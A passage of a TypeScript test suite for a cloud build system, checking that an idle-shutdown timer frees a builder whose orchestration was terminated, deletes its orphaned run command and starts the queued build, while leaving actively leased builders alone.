      assert.equal(record?.lastActivityAt, old, "a shutdown is not activity");
    });
  });

  describe("a builder held by a build whose orchestration ended", () => {
    const vm = { subscriptionId: SUB, resourceGroup: "rg-builds", vmName: "builder-dev" };
    const timer = { isPastDue: false, schedule: { adjustForDST: true }, scheduleStatus: {} } as Timer;

    it("is freed by the next timer run: its run command is deleted and the queued build starts", async () => {
      const first = await started();
      await withSource(first);
      await cloud.published(first.buildId, (status) => status.phase === "building");
      const second = await started();
      await withSource(second);
      await cloud.published(second.buildId, (status) => status.queuePosition === 1);

      // Terminating an orchestration runs none of its code: no cleanup, the lease stays held.
      await cloud.engine.terminate(first.buildId, "operator terminated it");
      assert.equal((await cloud.engine.waitForCompletion(first.buildId, 10_000)).runtimeStatus, "Terminated");
      assert.equal((await cloud.deps.leases.read(builderKey(vm)))?.record.holder, first.buildId);

      const logs: string[] = [];
      await idleShutdown(timer, timerContext("idleShutdown", logs, cloud.rpc));

      assert.ok(
        logs.some((line) =>
          line.includes(
            `build ${first.buildId} ended (Terminated) while holding the builder: its run command was deleted`,
          ),
        ),
        logs.join("\n"),
      );
      await assert.rejects(
        cloud.deps.compute.readBuildCommand(vm, { kind: "managed", name: runCommandName(first.buildId) }),
        (error: unknown) => error instanceof NotFoundError,
        "the orphaned run command is gone",
      );
      await cloud.published(second.buildId, (status) => status.phase === "building");
      assert.equal((await cloud.deps.leases.read(builderKey(vm)))?.record.holder, second.buildId);
    });

    it("is left alone while that build's orchestration runs", async () => {
      const build = await started();
      await withSource(build);
      await cloud.published(build.buildId, (status) => status.phase === "building");
      const logs: string[] = [];
      await idleShutdown(timer, timerContext("idleShutdown", logs, cloud.rpc));
      assert.ok(
        logs.some((line) => line.includes(`kept: leased by ${build.buildId}`)),
        logs.join("\n"),
      );
      assert.equal((await cloud.deps.leases.read(builderKey(vm)))?.record.holder, build.buildId);
    });
  });
});
